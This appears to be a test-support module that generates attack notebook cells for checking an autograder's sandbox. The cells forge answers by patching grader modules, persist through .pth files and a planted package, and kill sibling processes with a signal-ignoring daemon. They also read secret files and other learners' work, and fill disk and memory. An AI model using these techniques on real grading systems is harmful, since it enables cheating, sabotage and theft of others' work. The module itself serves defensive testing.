"""The code cells an attacking learner puts in a notebook, one function per class of attack.

Each returns Python source with the test's paths and tokens written in. Everything an attack creates
carries the batch's token in its name (``attack-<token>``), so the tests find it and clean it up.

They are written to be harmless on a host where the grader does NOT stop them (today's grader, a
developer's machine): killing is limited to the grading run's own processes, files go only to places
the test cleans, code planted in the repository or the venv only leaves marker files, and only while
the test's marker folder exists.
"""

from __future__ import annotations

import textwrap

import grade_submissions as gs

#: What every forging attack makes the observed answer: the course's own correct answers.
SOLVED_SOURCE = "import numpy as np\nimport tensorflow as tf\n" + gs.GET_INITIALIZER_SOLUTION + "\n" + gs.SOLVED_CLASS


def done(label: str, detail: str = "''") -> str:
    """The attack's last line: an error naming it (the grader reports a cell's error to the learner),
    proof that it ran to its end. Split in two in the source, which error reports quote."""
    return f'raise RuntimeError("ATTACK-" + "DONE {label} " + str({detail}))\n'


def begin_marker(token: str) -> str:
    return f"# >>> attack-{token}"


def end_marker(token: str) -> str:
    return f"# <<< attack-{token}"


def forging_code(token: str, marks: str) -> str:
    """Code that, once imported by a fork server, leaves a marker file and makes every later
    observation see the correct answers instead of the learner's (so wrong answers get marks)."""
    return textwrap.dedent(f"""\
        def _attack_{token}():
            import os, sys
            if not os.path.isdir({marks!r}):
                return
            with open(os.path.join({marks!r}, "code-ran-%d" % os.getpid()), "w") as marker:
                marker.write(" ".join(sys.argv))
            from checks.exercise import Exercise
            if getattr(Exercise.observe_all, "forged", False):
                return
            original = Exercise.observe_all
            def observe_all(self, answer, cases=None):
                namespace = {{}}
                exec({SOLVED_SOURCE!r}, namespace)
                return original(self, namespace.get(self.skeleton_path.split(".")[0], answer), cases)
            observe_all.forged = True
            Exercise.observe_all = observe_all
        _attack_{token}()
        """)


def forging_block(token: str, marks: str) -> str:
    """``forging_code`` between markers, as appended to a module of the grader's code."""
    return f"\n{begin_marker(token)}\n{forging_code(token, marks)}{end_marker(token)}\n"


def pth_line(marks: str) -> str:
    """A .pth file's line: Python runs it at the start of every interpreter of that venv."""
    return (
        f"import os, sys; os.path.isdir({marks!r}) and open(os.path.join({marks!r}, 'pth-ran-%d' % os.getpid()),"
        " 'w').write(' '.join(sys.argv))\n"
    )


def _targets(cli_token: str, host_pid_namespace: str) -> str:
    """Source defining ``attack_targets()``: the processes this attack may kill. In a PID namespace
    of its own, every process it sees (they are all inside the sandbox); on the host's PID namespace,
    only the processes started by the grading run under test (descendants of the grader command,
    found by the unique --out folder on its command line), never the grader command itself."""
    return textwrap.dedent(f"""\
        import os, signal

        def attack_targets():
            me = os.getpid()
            try:
                own_namespace = os.readlink("/proc/self/ns/pid")
            except OSError:
                own_namespace = {host_pid_namespace!r}
            parents, lines = {{}}, {{}}
            for entry in os.listdir("/proc"):
                if not entry.isdigit():
                    continue
                try:
                    with open(f"/proc/{{entry}}/stat", "rb") as f:
                        stat = f.read()
                    parents[int(entry)] = int(stat[stat.rfind(b")") + 2:].split()[1])
                    with open(f"/proc/{{entry}}/cmdline", "rb") as f:
                        lines[int(entry)] = f.read()
                except (OSError, ValueError, IndexError):
                    pass
            if own_namespace != {host_pid_namespace!r}:
                return [pid for pid in parents if pid != me]
            marked = {{pid for pid, line in lines.items() if {cli_token.encode()!r} in line}}
            tops = {{pid for pid in marked if parents.get(pid) not in marked}}
            found = []
            for pid in parents:
                ancestor, depth = parents.get(pid), 0
                while ancestor and ancestor not in tops and depth < 64:
                    ancestor, depth = parents.get(ancestor), depth + 1
                if ancestor in tops and pid != me and pid not in tops:
                    found.append(pid)
            return found
        """)


def kill_servers(cli_token: str, host_pid_namespace: str) -> str:
    """A cell that SIGKILLs its parent (the fork server) and every other process it may (see _targets)."""
    return _targets(cli_token, host_pid_namespace) + textwrap.dedent("""\
        for pid in [os.getppid(), *attack_targets()]:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        """)


def persistence(token: str, marks: str, cli_token: str, host_pid_namespace: str) -> tuple:
    """Append forging code to the grader's modules, drop a .pth into the venv (one cell); kill the
    fork server (the next)."""
    return textwrap.dedent(f"""\
        import importlib, os, site, sys, sysconfig
        modules = []
        for name in ("checks.exercise", "checks.judging", "grader", "grader.pipeline.mark", "grader.sandbox.worker",
                     "grader.sandbox.server"):
            try:
                modules.append(importlib.import_module(name).__file__)
            except Exception:
                pass
        for path in modules:
            try:
                with open(path, "a") as f:
                    f.write({forging_block(token, marks)!r})
            except OSError:
                pass
        folders = set(site.getsitepackages()) | {{sysconfig.get_paths()["purelib"]}}
        folders |= {{p for p in sys.path if p.endswith("site-packages")}}
        for folder in folders:
            try:
                with open(os.path.join(folder, "attack-{token}.pth"), "w") as f:
                    f.write({pth_line(marks)!r})
            except OSError:
                pass
        """) + done("persistence", "len(modules)"), kill_servers(cli_token, host_pid_namespace)


def planted_package(token: str, marks: str, cli_token: str, host_pid_namespace: str) -> tuple:
    """Plant a ``checks`` package (the real one, plus forging code) in every folder the fork server
    searches before the real one, and in the sandbox's working folder and its parent; then kill the
    fork server so that a new one imports it."""
    init = textwrap.dedent("""\
        import os
        _real = {real!r}
        __path__ = [_real]
        __file__ = os.path.join(_real, "__init__.py")
        with open(__file__) as _source:
            exec(compile(_source.read(), __file__, "exec"))
        """) + forging_code(token, marks)
    return textwrap.dedent(f"""\
        import os, sys
        import checks
        real = os.path.dirname(os.path.abspath(checks.__file__))
        candidates = []
        for entry in sys.path:
            entry = os.path.abspath(entry or ".")
            if os.path.realpath(entry) == os.path.realpath(os.path.dirname(real)):
                break
            candidates.append(entry)
        else:
            candidates = []
        candidates += [os.getcwd(), os.path.dirname(os.getcwd())]
        for folder in dict.fromkeys(candidates):
            package = os.path.join(folder, "checks")
            if folder.startswith(("/usr", "/lib", "/etc", "/bin", "/opt", "/sbin")) or os.path.exists(package):
                continue
            try:
                os.makedirs(package)
                with open(os.path.join(package, "attack-{token}"), "w") as f:
                    f.write("planted")
                with open(os.path.join(package, "__init__.py"), "w") as f:
                    f.write({init!r}.replace("{{real!r}}", repr(real)))
            except OSError:
                pass
        """) + done("planted-package", "candidates"), kill_servers(cli_token, host_pid_namespace)


def kill_siblings(cli_token: str, host_pid_namespace: str, seconds: float) -> tuple:
    """Switch off the cell's alarm, then SIGKILL every other process it may (sibling sandboxes,
    the fork server and every new one) for ``seconds``."""
    return (
        _targets(cli_token, host_pid_namespace)
        + textwrap.dedent(f"""\
        import time
        signal.alarm(0)
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.setitimer(signal.ITIMER_REAL, 0)
        for name in ("SIGXCPU", "SIGTERM", "SIGINT", "SIGHUP"):
            try:
                signal.signal(getattr(signal, name), signal.SIG_IGN)
            except (OSError, ValueError, AttributeError):
                pass
        deadline, killed = time.monotonic() + {seconds!r}, set()
        while time.monotonic() < deadline:
            for pid in attack_targets():
                try:
                    os.kill(pid, signal.SIGKILL)
                    killed.add(pid)
                except OSError:
                    pass
            time.sleep(0.02)
        """)
        + done("siblings", "len(killed)"),
    )


def connect(port: int, udp_port: int, token: str) -> tuple:
    """Reach a listener on the host's 127.0.0.1 over TCP and UDP, and its abstract Unix socket."""
    return (
        textwrap.dedent(f"""\
        import socket
        failures = []
        for attempt in range(3):
            try:
                with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
                    s.sendall(b"attack-{token} over TCP\\n")
            except OSError as exc:
                failures.append(type(exc).__name__)
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                    u.sendto(b"attack-{token} over UDP", ("127.0.0.1", {udp_port}))
            except OSError as exc:
                failures.append(type(exc).__name__)
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as x:
                    x.settimeout(2)
                    x.connect("\\0attack-{token}")
                    x.sendall(b"attack-{token} over an abstract Unix socket\\n")
            except OSError as exc:
                failures.append(type(exc).__name__)
        """)
        + done("network", "failures"),
    )


def home_and_etc(token: str, writable: list[str], secret: list[str]) -> tuple:
    """Create files in home and /etc, append to the test's files there, read its secret files (and
    raise what was read, so that it would show in the feedback)."""
    return (
        textwrap.dedent(f"""\
        import os
        folders = {{os.path.expanduser("~"), "/etc"}}
        try:
            import pwd
            folders.add(pwd.getpwuid(os.getuid()).pw_dir)
        except (ImportError, KeyError):
            pass
        for folder in folders:
            try:
                with open(os.path.join(folder, ".attack-{token}-new"), "w") as f:
                    f.write("written by a submission")
            except OSError:
                pass
        for path in {writable!r}:
            try:
                with open(path, "a") as f:
                    f.write("changed by a submission")
            except OSError:
                pass
        leaked = []
        for path in {secret!r}:
            try:
                with open(path) as f:
                    leaked.append(f.read().strip())
            except OSError:
                pass
        leaked = ("HOME-" + "LEAKED " + " ".join(leaked)) if leaked else ""
        """)
        + done("home-etc", "leaked"),
    )


def read_others(token: str, solutions: str, submissions: str, out: str) -> tuple:
    """Copy the answers from solutions/ and from other learners' submissions (so a leak earns marks),
    list and read the submissions and OUT (raising the secrets found), plant files in both."""
    return (
        textwrap.dedent(f"""\
        import json, os, re
        leaked = []
        def read(path):
            try:
                with open(path, errors="replace") as f:
                    return f.read()
            except OSError:
                return None
        def answers(text):
            try:
                cells = json.loads(text)["cells"]
            except (ValueError, KeyError, TypeError):
                return
            for cell in cells:
                source = cell.get("source", "")
                source = "".join(source) if isinstance(source, list) else source
                if ("def get_initializer(" in source and "checks." not in source) or "class EmbeddingModel" in source:
                    try:
                        exec(source, globals())
                    except Exception:
                        pass
        for folder in ({submissions!r}, {out!r}):
            for root, dirs, files in os.walk(folder):
                for name in files:
                    text = read(os.path.join(root, name))
                    if text:
                        leaked += re.findall(r"(?:out|sub)secret-[0-9a-f]+", text)
                        if "class EmbeddingModel" in text and "attack-{token}" not in text:
                            answers(text)
        solution = read(os.path.join({solutions!r}, "04_time_to_code.ipynb"))
        if solution:
            leaked.append("solutions/04_time_to_code.ipynb")
            answers(solution)  # last: the right answers win
        for folder in ({submissions!r}, {out!r}):
            try:
                with open(os.path.join(folder, "attack-{token}-planted.ipynb"), "w") as f:
                    f.write("{{}}")
            except OSError:
                pass
        leaked = ("OTHERS-" + "LEAKED " + " ".join(leaked)) if leaked else ""
        """)
        + done("read-others", "leaked"),
    )


def memory_split(children: int, child_mb: int, limit_mb: int) -> tuple:
    """Fork ``children`` processes that each touch ``child_mb`` MB and hold it; if together they held
    the limit or more at once, say so (raised, so it shows in the row's problems)."""
    return (
        textwrap.dedent(f"""\
        import os, select, signal, time
        signal.alarm(0)  # all the time it needs
        read_end, write_end = os.pipe()
        pids = []
        for _ in range({children}):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                try:
                    os.close(read_end)
                    size = {child_mb} * 2**20
                    hoard = bytearray(size)
                    hoard[::4096] = b"\\1" * len(range(0, size, 4096))
                    os.write(write_end, b"1")
                    time.sleep(2)
                except BaseException:
                    pass
                os._exit(0)
            pids.append(pid)
        os.close(write_end)
        held, deadline = 0, time.monotonic() + 20
        while held < len(pids) and time.monotonic() < deadline:
            ready, _, _ = select.select([read_end], [], [], 0.5)
            if ready:
                data = os.read(read_end, 64)
                if not data:
                    break
                held += len(data)
        for pid in pids:
            try:
                os.waitpid(pid, 0)
            except OSError:
                pass
        if held * {child_mb} >= {limit_mb}:
            raise RuntimeError("MEMORY-" + f"OVER: {{held}} processes held {{held * {child_mb}}} MB at once; limit {limit_mb} MB")
        """)  # noqa: E501 (learner code)
        + done("memory-split", "held"),
    )


def disk_fill(token: str, folder_mb: int) -> tuple:
    """Write files of 32 MB into each of /tmp, /var/tmp, /dev/shm, the temporary folder Python picks
    and the working folder, until a write fails or ``folder_mb`` is written there."""
    return (
        textwrap.dedent(f"""\
        import os, tempfile
        block = b"\\0" * (8 << 20)
        written = 0
        for base in dict.fromkeys(["/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.getcwd()]):
            folder = os.path.join(base, "attack-{token}-fill")
            try:
                os.makedirs(folder, exist_ok=True)
            except OSError:
                continue
            number, full, bound = 0, False, written + ({folder_mb} << 20)
            while written < bound and not full:
                try:
                    with open(os.path.join(folder, f"{{number}}.bin"), "wb") as f:
                        for _ in range(4):
                            f.write(block)
                            written += len(block)
                except OSError:
                    full = True
                number += 1
        """)
        + done("disk-fill", "written >> 20"),
    )


def _left_places() -> str:
    """Source of the folders a submission may write to that the next one in its slot could share."""
    return (
        'places = dict.fromkeys(["/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.getcwd(),\n'
        '                        os.path.dirname(os.getcwd()), os.path.expanduser("~")])\n'
    )


def leave_files(token: str) -> tuple:
    """Leave a secret in every folder a later submission in the same slot might share."""
    return (
        "import os, tempfile\n"
        + _left_places()
        + textwrap.dedent(f"""\
        left = []
        for place in places:
            try:
                with open(os.path.join(place, "attack-{token}-left"), "w") as f:
                    f.write("leftsecret-{token}")
                left.append(place)
            except OSError:
                pass
        """)
        + done("leave-files", "left"),
    )


def find_files(token: str) -> tuple:
    """Look for what an earlier submission left (leave_files), and raise what was found."""
    return (
        "import os, tempfile\n"
        + _left_places()
        + textwrap.dedent(f"""\
        found = []
        for place in places:
            try:
                with open(os.path.join(place, "attack-{token}-left")) as f:
                    found.append(f.read())
            except OSError:
                pass
        found = ("LEFTOVER-" + "LEAKED " + " ".join(found)) if found else ""
        """)
        + done("find-files", "found"),
    )


def daemon_killer(cli_token: str, host_pid_namespace: str, seconds: float) -> tuple:
    """Start a daemon (double fork, new session, signals ignored) that outlives its submission and
    SIGKILLs every process it may for ``seconds``: the submissions graded after it in its slot."""
    return (
        _targets(cli_token, host_pid_namespace)
        + textwrap.dedent(f"""\
        import time
        origin, first = os.getpid(), os.fork()
        if first == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(3, 1024)
                signal.alarm(0)
                for name in ("SIGALRM", "SIGXCPU", "SIGTERM", "SIGINT", "SIGHUP"):
                    signal.signal(getattr(signal, name), signal.SIG_IGN)
                deadline = time.monotonic() + {seconds!r}
                while time.monotonic() < deadline:
                    for pid in attack_targets():
                        try:
                            if pid != origin:  # its own submission may finish
                                os.kill(pid, signal.SIGKILL)
                        except OSError:
                            pass
                    time.sleep(0.02)
            os._exit(0)
        os.waitpid(first, 0)
        """)
        + done("daemon-killer"),
    )
